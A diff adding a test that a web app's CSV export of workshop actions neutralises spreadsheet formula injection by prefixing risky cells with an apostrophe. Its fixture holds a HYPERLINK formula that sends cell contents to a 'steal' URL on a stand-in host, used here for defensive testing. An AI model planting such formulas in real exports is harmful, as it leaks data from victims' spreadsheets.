@@ -467,6 +467,36 @@ def test_the_csv_has_one_row_per_action_with_its_priority_and_group(app, seminar
     assert "attachment" in french.headers["Content-Disposition"]
 
 
+
+def test_the_csv_keeps_formulas_typed_on_phones_as_text(app, seminar):
+    """A cell starting with = + - @, a tab or a carriage return would be run by a
+    spreadsheet as a formula: it starts with ' instead, so it shows as typed."""
+    action = db.session.scalar(select(Action).where(Action.workshop_id == seminar.id)
+                               .order_by(Action.id))
+    lead = db.session.get(Actor, action.lead_actor_id)
+    action.title = '=HYPERLINK("http://example.com/steal?d="&A1,"Click for details")'
+    action.expected_result = "+33 1 23 45 67 89"
+    action.resources = "@SUM(A1:A9)"
+    lead.name = "-2+3"
+    partner = db.session.get(Actor, action.partner_ids[0])
+    partner.name = "\tcmd"
+    db.session.commit()
+    client = login(app.test_client(), *OWNER)
+    raw = client.get(f"/workshops/{seminar.id}/actions.csv").data.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(raw)))
+    row = next(r for r in rows if r["No."] == "1.1")
+    assert row["Action"] == \
+        "'=HYPERLINK(\"http://example.com/steal?d=\"&A1,\"Click for details\")"
+    assert row["Expected result"] == "'+33 1 23 45 67 89"
+    assert row["Resources needed"] == "'@SUM(A1:A9)"
+    assert row["Lead"] == "'-2+3" and row["Partners"].startswith("'\tcmd")
+    # everything else as it was
+    assert row["Deadline"] == "2015-12-15" and row["Priority"] == "1"
+    marked = {cell for r in rows for cell in r.values() if cell.startswith("'")}
+    assert {cell[1:3] for cell in marked} == {"=H", "+3", "@S", "-2", "\tc"}
+    brings = next(r for r in rows if r["No."] == "S1")["Brings together"]
+    assert "=HYPERLINK" in brings and not brings.startswith("'")  # not at the start
+
 # --- the render cache ----------------------------------------------------------------------
 
 def test_two_requests_at_once_cause_one_render(app, seminar, cache):
